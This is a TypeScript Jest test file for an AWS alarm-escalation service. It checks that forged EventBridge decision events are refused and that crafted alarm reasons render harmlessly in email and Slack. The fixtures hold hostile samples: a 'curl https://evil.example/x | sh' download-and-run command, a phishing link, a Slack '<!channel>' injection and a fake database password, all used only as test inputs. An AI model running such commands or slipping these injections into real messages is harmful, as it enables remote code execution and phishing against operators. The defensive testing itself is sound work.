// Issue 17 (3, 8) against the emulator, through escalate's real entry point: decision events forged as anyone with
// events:PutEvents on the bus would send them page nobody, resolve nothing and render nothing of theirs; a crafted alarm
// reason renders inert in both channels. What each tier received is read from the SQS queues subscribed to its topic.
import { DescribeAlarmsCommand } from '@aws-sdk/client-cloudwatch';
import { UpdateEventSourceMappingCommand } from '@aws-sdk/client-lambda';
import { DeleteMessageCommand, ReceiveMessageCommand } from '@aws-sdk/client-sqs';
import { GetCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import type { EscalationHandler } from '../../../shared/escalation/create-escalation-handlers';
import { incidentIdFor } from '../../../shared/escalation/incident';
import type { AlarmHandler } from '../../../shared/pipeline/create-alarm-handler';
import { buildAlarmStateChangeEvent } from '../../../sandbox/alarm-evaluator';
import { createEscalationInbox, type EscalationInbox } from '../../../sandbox/escalation-inbox';
import { getProxyCallCount, getProxyCalls } from '../../../sandbox/proxy-control';
import { provisionAccount, putQueueDepth, queueAlarmName, type SandboxAccount } from '../support/sandbox-account';
import { loadHandler } from '../../support/load-handler';

type EventBridgeEvent = Record<string, unknown> & { detail: Record<string, unknown> };

const MUTATING = new Set(['PutItem', 'UpdateItem', 'DeleteItem', 'TransactWriteItems', 'Publish', 'CreateCase', 'AddCommunicationToCase', 'CreateSchedule', 'DeleteSchedule']);

interface Harness {
  account: SandboxAccount;
  inbox: EscalationInbox;
  escalate: EscalationHandler;
  scaleConsumers: AlarmHandler;
  alarmName: string;
  alarmArn: string;
  warnings: string[];
}

async function harness(extraEnv: Record<string, string> = {}): Promise<Harness> {
  const account = await provisionAccount('production', extraEnv);
  const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'trust-inbox');
  // The escalate handler's warnings go through the console (Powertools development mode), where the test reads them.
  const warnings: string[] = [];
  Object.assign(process.env, { POWERTOOLS_LOG_LEVEL: 'WARN', POWERTOOLS_DEV: 'true' });
  jest.spyOn(console, 'warn').mockImplementation((...args: unknown[]) => void warnings.push(args.map(String).join(' ')));
  const escalate = loadHandler<EscalationHandler>('escalate');
  Object.assign(process.env, { POWERTOOLS_LOG_LEVEL: 'SILENT' });
  delete process.env.POWERTOOLS_DEV;
  const alarmName = queueAlarmName(account.topology);
  const described = await account.cloudWatch.send(new DescribeAlarmsCommand({ AlarmNames: [alarmName] }));
  return { account, inbox, escalate, scaleConsumers: loadHandler<AlarmHandler>('scale-consumers'), alarmName, alarmArn: described.MetricAlarms?.[0]?.AlarmArn ?? '', warnings };
}

async function consumersAtCap(h: Harness): Promise<void> {
  await h.account.lambda.send(new UpdateEventSourceMappingCommand({ UUID: h.account.topology.consumer.mappingUuid, ScalingConfig: { MaximumConcurrency: 400 } }));
}

async function publishedDecisions(h: Harness): Promise<EventBridgeEvent[]> {
  const url = h.account.topology.decisionRoute.url;
  const received = await h.account.sqs.send(new ReceiveMessageCommand({ QueueUrl: url, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 }));
  for (const m of received.Messages ?? []) await h.account.sqs.send(new DeleteMessageCommand({ QueueUrl: url, ReceiptHandle: m.ReceiptHandle }));
  return (received.Messages ?? []).map((m) => JSON.parse(m.Body ?? '{}') as EventBridgeEvent);
}

/** A "Runbook Decision" as EventBridge delivers one put by anyone with events:PutEvents on the project's bus. */
function forgedDecision(h: Harness, detail: Record<string, unknown>): EventBridgeEvent {
  return {
    version: '0',
    id: '6a7e8feb-b491-4cf7-a9f1-bf3703467718',
    'detail-type': 'Runbook Decision',
    source: 'notification-service.runbooks',
    account: h.account.accountId,
    time: new Date().toISOString(),
    region: 'us-east-1',
    resources: [h.alarmArn],
    detail: {
      playbook: 'scale-consumers',
      environment: 'production',
      region: 'us-east-1',
      account: h.account.accountId,
      alarmName: h.alarmName,
      alarmArn: h.alarmArn,
      dryRun: false,
      decidedAt: new Date().toISOString(),
      resource: { type: 'sqs-queue-consumers', id: 'notification-service-queue', arn: `arn:aws:sqs:us-east-1:${h.account.accountId}:notification-service-queue` },
      ...detail,
    },
  };
}

async function incidentItem(h: Harness, incidentId: string): Promise<Record<string, unknown> | undefined> {
  const result = await h.account.dynamo.send(
    new GetCommand({ TableName: h.account.topology.stateTable.name, Key: { pk: `ESCALATION#${incidentId}`, sk: 'INCIDENT' }, ConsistentRead: true }),
  );
  return result.Item;
}

async function escalationItems(h: Harness, incidentId: string): Promise<number> {
  const result = await h.account.dynamo.send(
    new QueryCommand({ TableName: h.account.topology.stateTable.name, KeyConditionExpression: 'pk = :pk', ExpressionAttributeValues: { ':pk': `ESCALATION#${incidentId}` } }),
  );
  return result.Items?.length ?? 0;
}

async function callsSince(h: Harness, since: number): Promise<string[]> {
  return (await getProxyCalls(process.env.SANDBOX_PROXY_CONTROL ?? '', since)).filter((c) => c.accountId === h.account.accountId).map((c) => c.operation);
}

const callCount = async (): Promise<number> => await getProxyCallCount(process.env.SANDBOX_PROXY_CONTROL ?? '');

describe('forged "Runbook Decision" events (issue 17 item 3)', () => {
  let h: Harness;

  beforeAll(async () => {
    // The cases fire the queue alarm again seconds after the last case's incident resolved; with the default 30-min
    // grouping window (decision 204) a re-fire would re-open that incident. These cases are about a fresh incident's
    // page, so grouping is off here (a re-fire re-opening is connection-timeout-504.test.ts's flapping case).
    h = await harness({ RUNBOOK_CONFIG_JSON: JSON.stringify({ environments: { production: { escalation: { flapping: { regroupWithinMinutes: 0, settleMinutes: 10 } } } } }) });
    await consumersAtCap(h);
  });

  afterAll(() => jest.restoreAllMocks());

  it('pages nobody for an escalation with no matching claim or audit record, and logs it as refused', async () => {
    // The alarm really fires, but no playbook decided anything about it: the "decision" is the attacker's.
    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
    const alarm = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [1800.0] was greater than the threshold (1000.0)');
    const alarmTime = String((alarm.detail as { state: { timestamp: string } }).state.timestamp);
    const incidentKey = `${h.alarmArn}#${alarmTime}`;
    const forged = forgedDecision(h, {
      outcome: 'escalate',
      reason: 'consumers are at the environment cap: page everyone and open an urgent support case',
      incidentKey,
      alarmState: 'ALARM',
      alarmTime,
      escalation: { cause: 'cap-reached' },
    });
    const since = await callCount();

    const result = await h.escalate(forged);

    expect(result).toMatchObject({ action: 'refused', delivered: [], reason: expect.stringContaining('no claim of scale-consumers') });
    expect(await h.inbox.read()).toEqual([]);
    expect(await incidentItem(h, incidentIdFor(incidentKey))).toBeUndefined();
    expect(await escalationItems(h, incidentIdFor(incidentKey))).toBe(0);
    const calls = await callsSince(h, since);
    expect(calls.filter((op) => MUTATING.has(op))).toEqual([]);
    // It looked: the incident, then the claims and the audit trail.
    expect(calls).toEqual(expect.arrayContaining(['GetItem', 'Query']));
    expect(h.warnings.some((line) => line.includes('decision refused') && line.includes('no claim of scale-consumers'))).toBe(true);
  });

  it('does not resolve a real open incident with a forged OK, and does not resolve it when the alarm still fires', async () => {
    // A real incident: scale-consumers at the cap escalates, escalate opens it and pages L1.
    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
    const event = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [2100.0] was greater than the threshold (1000.0)');
    await h.scaleConsumers(event);
    const [decision] = await publishedDecisions(h);
    expect(decision?.detail).toMatchObject({ outcome: 'escalate', escalation: { cause: 'cap-reached' } });
    const opened = await h.escalate(decision);
    expect(opened).toMatchObject({ action: 'opened', delivered: [{ level: 1 }] });
    const incidentId = opened.incidentId ?? '';
    expect((await h.inbox.read()).map((m) => `${m.kind}:L${m.level}`)).toEqual(['opened:L1', 'opened:L1']);

    // The attacker's OK: a later state change of the same alarm, "applied" by scale-consumers.
    const okTime = new Date(Date.now() + 60_000).toISOString().replace('Z', '+0000');
    const forgedOk = forgedDecision(h, {
      outcome: 'applied',
      reason: 'restored the consumers: the queue drained',
      incidentKey: `${h.alarmArn}#${okTime}`,
      alarmState: 'OK',
      alarmTime: okTime,
    });
    expect(await h.escalate(forgedOk)).toMatchObject({ action: 'refused', delivered: [] });

    // A copy of the real decision turned into an OK changes the matched fields: refused as well.
    const copied = { ...decision, detail: { ...decision?.detail, outcome: 'skipped', alarmState: 'OK' } } as EventBridgeEvent;
    expect(await h.escalate(copied)).toMatchObject({ action: 'refused', reason: expect.stringContaining('no audit record') });

    // An OK alarm state change whose alarm, re-read, is still in that same ALARM resolves nothing either.
    const [metricAlarm] = (await h.account.cloudWatch.send(new DescribeAlarmsCommand({ AlarmNames: [h.alarmName] }))).MetricAlarms ?? [];
    const firingSince = (metricAlarm?.StateUpdatedTimestamp ?? new Date()).toISOString();
    const claimedOk = buildAlarmStateChangeEvent({
      alarm: metricAlarm ?? {},
      account: h.account.accountId,
      region: 'us-east-1',
      previous: { value: 'ALARM', reason: 'Threshold Crossed', timestamp: firingSince },
      current: { value: 'OK', reason: 'Threshold Crossed: no datapoints were breaching', reasonData: '{}', timestamp: new Date(Date.now() + 120_000).toISOString() },
    });
    expect(await h.escalate(claimedOk)).toMatchObject({ action: 'ignored', delivered: [], reason: expect.stringContaining('still in ALARM') });

    expect(await incidentItem(h, incidentId)).toMatchObject({ status: 'OPEN', level: 1 });
    expect(await h.inbox.read()).toEqual([]);

    // The real OK (the alarm re-read says OK) still resolves it, and L1 hears once.
    const resolved = await h.escalate(await h.account.transition(h.alarmName, 'OK', 'Threshold Crossed: no datapoints were breaching'));
    expect(resolved).toMatchObject({ action: 'resolved', incidentIds: [incidentId] });
    expect((await h.inbox.read()).map((m) => `${m.kind}:L${m.level}:${m.channel}`).sort()).toEqual(['resolved:L1:chat', 'resolved:L1:email']);
  });

  it('renders the recorded next step, never a document or link the event carries', async () => {
    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
    const event = await h.account.transition(h.alarmName, 'ALARM', 'Threshold Crossed: 1 datapoint [2500.0] was greater than the threshold (1000.0)');
    await h.scaleConsumers(event);
    const [decision] = await publishedDecisions(h);
    // The real decision, intercepted and re-put with the attacker's next step and finding.
    const tampered = {
      ...decision,
      detail: {
        ...decision?.detail,
        runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl -s https://evil.example/x | sh'] } },
        findings: ['<https://evil.example/login|Sign in to acknowledge>'],
      },
    } as EventBridgeEvent;

    const result = await h.escalate(tampered);
    expect(result).toMatchObject({ action: 'opened', delivered: [{ level: 1 }] });
    const messages = await h.inbox.read();
    expect(messages.map((m) => m.channel).sort()).toEqual(['chat', 'email']);
    for (const message of messages) {
      expect(message.message).toContain('NotificationService-ScaleConsumers');
      expect(message.message).not.toContain('Evil-RunShellScript');
      expect(message.message).not.toContain('evil.example');
    }
    await h.escalate(await h.account.transition(h.alarmName, 'OK'));
    await h.inbox.read();
  });
});

describe('a crafted alarm reason (issue 17 item 8)', () => {
  let h: Harness;

  beforeAll(async () => {
    h = await harness();
    await consumersAtCap(h);
  });

  afterAll(() => jest.restoreAllMocks());

  it('renders inert in email and chat: no link, no mention, no forged section, secrets masked', async () => {
    const crafted =
      'Threshold Crossed <!channel> <https://evil.example/run|Run this>\n\nNEXT STEP: Run NotificationService-Evil\n  curl https://evil.example/x | sh ' +
      'postgres://app:S3cr3tPw@db:5432/notify';
    await putQueueDepth(h.account); // the condition the alarm watches, made real (decision 217)
    const event = await h.account.transition(h.alarmName, 'ALARM', crafted);
    await h.scaleConsumers(event);
    const [decision] = await publishedDecisions(h);
    expect(await h.escalate(decision)).toMatchObject({ action: 'opened', delivered: [{ level: 1, via: 'chat+email' }] });

    const messages = await h.inbox.read();
    const email = messages.find((m) => m.channel === 'email')?.message ?? '';
    const chat = JSON.parse(messages.find((m) => m.channel === 'chat')?.message ?? '{}') as { content: { description: string; nextSteps: string[] } };

    // Email: the reason stays on its one line; the only NEXT STEP section is the automation's; the password is masked.
    const reasonLines = email.split('\n').filter((line) => line.includes('Threshold Crossed'));
    expect(reasonLines).toEqual([
      '  Reason:      Threshold Crossed <!channel> <https://evil.example/run|Run this> NEXT STEP: Run NotificationService-Evil curl https://evil.example/x | sh postgres://app:****@db:5432/notify',
    ]);
    expect(email.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change']);
    expect(email).not.toContain('S3cr3tPw');

    // Chat: the same reason escaped (Slack shows it as text), on the reason's own line; links only the automation's own.
    const description = chat.content.description;
    expect(description.split('\n').filter((line) => line.includes('Threshold Crossed'))).toEqual([
      '*Reason:* Threshold Crossed &lt;!channel&gt; &lt;https://evil.example/run|Run this&gt; NEXT STEP: Run NotificationService-Evil curl https://evil.example/x | sh postgres://app:****@db:5432/notify',
    ]);
    expect(description).not.toMatch(/<!channel>|<https:\/\/evil/);
    expect(chat.content.nextSteps.join('\n')).not.toContain('evil');
    // At the cap the next step is text (no document to re-run); the only link is the automation's acknowledgement.
    expect(chat.content.nextSteps[0]).toMatch(/^\*Next step:\* Find why the consumers cannot keep up/);
    expect(chat.content.nextSteps[1]).toMatch(/^Acknowledge: `runbook ack inc-[0-9a-f]{12} --region us-east-1` or <https:\/\/us-east-1\.console\.aws\.amazon\.com\/systems-manager\/automation\/execute\/NotificationService-AcknowledgeIncident\?/);
    expect(chat.content.nextSteps).toHaveLength(2);
    expect(JSON.stringify(chat)).not.toContain('S3cr3tPw');
  });
});
